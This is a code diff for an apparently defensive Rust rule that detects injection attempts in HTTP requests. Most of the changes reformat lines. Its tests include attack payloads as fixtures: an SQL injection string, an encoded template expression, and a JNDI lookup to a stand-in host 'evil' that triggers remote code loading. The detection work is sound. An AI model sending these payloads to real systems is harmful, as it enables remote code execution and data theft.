@@ -79,9 +79,9 @@ fn is_suspicious(target: &[u8]) -> bool {
 /// Whether an encoded character is suspect, is encoded itself, or joins words to a comparison.
 fn has_suspect_code(target: &[u8]) -> bool {
     let codes = memchr::memchr_iter(b'%', target);
-    let suspect = codes.filter_map(|at| payload::hex(target.get(at + 1..at + 3)?)).any(|byte| {
-        is_suspect(byte) || matches!(byte, b'%' | b'.' | b'/' | b'=' | b'&')
-    });
+    let suspect = codes
+        .filter_map(|at| payload::hex(target.get(at + 1..at + 3)?))
+        .any(|byte| is_suspect(byte) || matches!(byte, b'%' | b'.' | b'/' | b'=' | b'&'));
     let spaced = memchr::memchr(b'+', target).is_some() || memchr::memmem::find(target, b"%20").is_some();
     suspect || (spaced && (compares(target) || memchr::memmem::find(target, b"javascript:").is_some()))
 }
@@ -103,7 +103,9 @@ impl Injection {
         }
         for parameter in request.query().split(|b| *b == b'&').take(MAX_PARAMETERS) {
             let (name, value) = match memchr::memchr(b'=', parameter) {
-                Some(at) => (parameter.get(..at).unwrap_or_default(), parameter.get(at + 1..).unwrap_or_default()),
+                Some(at) => {
+                    (parameter.get(..at).unwrap_or_default(), parameter.get(at + 1..).unwrap_or_default())
+                }
                 None => (parameter, parameter),
             };
             payload::decode(value, true, &mut self.text);
@@ -166,7 +168,10 @@ impl Rule for Injection {
         let statement = Statement {
             severity: if broke || taken { ABOUT.accepted.unwrap_or(ABOUT.severity) } else { ABOUT.severity },
             confidence: if broke || taken { 90 } else { 80 },
-            message: format!("A request to {} holds a {what} in its {place}; it was {answer}.", case.route.name),
+            message: format!(
+                "A request to {} holds a {what} in its {place}; it was {answer}.",
+                case.route.name
+            ),
             brief: format!("{what} in {place}"),
             facts: vec![("payload", what.into()), ("place", place.into())],
         };
@@ -198,7 +203,11 @@ mod tests {
             ("/x?q=%7B%7B7*7%7D%7D", "template expression in parameter q"),
         ];
         for (target, brief) in cases {
-            assert_eq!(found(&Stage::to("GET", target).status(404)), Some((Severity::Medium, brief.to_owned())), "{target}");
+            assert_eq!(
+                found(&Stage::to("GET", target).status(404)),
+                Some((Severity::Medium, brief.to_owned())),
+                "{target}"
+            );
         }
         let shell = Stage::to("GET", "/").header("User-Agent", "${jndi:ldap://evil/x}").status(404);
         assert_eq!(found(&shell).unwrap().1, "JNDI lookup in header User-Agent");
@@ -238,7 +247,7 @@ mod tests {
 
     #[test]
     fn no_payload_is_quoted() {
-        let stage = Stage::to("GET", "/x?token=hunter2'%20or%201=1--").status(500);
+        let stage = Stage::to("GET", "/x?token=hunter2'%20or%201=1--").route("GET /x").status(500);
         let told = stage.ask(&mut *rule(&Arc::default()), []).pop().unwrap();
         assert!(!told.message.contains("hunter2") && !told.brief.contains("hunter2"));
     }
